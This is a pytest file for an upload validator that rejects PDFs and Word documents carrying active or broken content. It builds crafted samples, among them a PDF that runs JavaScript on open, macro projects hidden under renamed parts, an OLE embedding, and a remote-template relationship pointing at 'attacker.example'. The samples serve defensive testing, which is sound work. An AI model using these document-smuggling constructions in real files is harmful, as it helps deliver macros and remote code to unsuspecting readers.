"""Issue 9, finding 8: uploads that can never be opened, or that act on their own, are refused at
upload with the reason.  Each case was accepted before (the tests were written to fail first)."""

import io
import zipfile

import pikepdf
import pytest

from incamera.kernel.errors import InvalidInputError
from incamera.materials.actions import check_upload

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>{extra}</Types>'
)
DOCUMENT = (
    '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Draft communiqué</w:t></w:r></w:p></w:body></w:document>"
)
RELS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{extra}</Relationships>'


def _docx(*, types: str = "", parts: dict[str, bytes | str] | None = None, document_rels: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(extra=types))
        archive.writestr("_rels/.rels", RELS.format(extra=""))
        archive.writestr("word/document.xml", DOCUMENT)
        if document_rels:
            archive.writestr("word/_rels/document.xml.rels", RELS.format(extra=document_rels))
        for name, body in (parts or {}).items():
            archive.writestr(name, body)
    return out.getvalue()


def _pdf(**root: object) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    for key, value in root.items():
        pdf.Root[f"/{key}"] = value
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def test_clean_files_are_accepted() -> None:
    assert check_upload("a.docx", _docx()) == "docx"
    assert check_upload("a.pdf", _pdf()) == "pdf"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"%PDF-1.7\n<html><body>not a PDF</body></html>", "cannot be opened"),
        (b"%PDF-1.4\n" + _docx(), "cannot be opened"),
    ],
    ids=["pdf-header-then-html", "pdf-header-then-zip"],
)
def test_a_pdf_that_cannot_be_opened_is_refused(data: bytes, reason: str) -> None:
    with pytest.raises(InvalidInputError, match=reason):
        check_upload("a.pdf", data)


def test_a_docx_with_a_truncated_central_directory_is_refused() -> None:
    data = _docx()
    with pytest.raises(InvalidInputError, match="damaged"):
        check_upload("a.docx", data[:-30])


def test_a_pdf_that_runs_javascript_when_opened_is_refused() -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('hello')"))
    with pytest.raises(InvalidInputError, match="JavaScript"):
        check_upload("a.pdf", _pdf(OpenAction=action))


def test_a_pdf_with_embedded_files_or_a_form_is_refused() -> None:
    names = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([])))
    with pytest.raises(InvalidInputError, match="embedded files"):
        check_upload("a.pdf", _pdf(Names=names))
    with pytest.raises(InvalidInputError, match="form"):
        check_upload("a.pdf", _pdf(AcroForm=pikepdf.Dictionary(Fields=pikepdf.Array([]))))


@pytest.mark.parametrize(
    ("docx", "reason"),
    [
        (_docx(parts={"word/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0"}), "macros"),
        (
            _docx(
                types='<Override PartName="/word/notes.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
                parts={"word/notes.dat": b"\xd0\xcf\x11\xe0"},
            ),
            "macros",
        ),
        (
            _docx(types='<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
            "macros",
        ),
        (
            _docx(
                document_rels='<Relationship Id="rId9" TargetMode="External" Target="https://attacker.example/t.dotm" '
                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
            ),
            "remote",
        ),
        (
            _docx(
                parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
                document_rels='<Relationship Id="rId7" Target="embeddings/oleObject1.bin" '
                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"/>',
            ),
            "embedded",
        ),
    ],
    ids=["vbaproject-case-variant", "macro-under-another-name", "macro-enabled-type", "remote-template", "ole-embedding"],
)
def test_a_docx_with_active_content_is_refused(docx: bytes, reason: str) -> None:
    with pytest.raises(InvalidInputError, match=reason):
        check_upload("a.docx", docx)
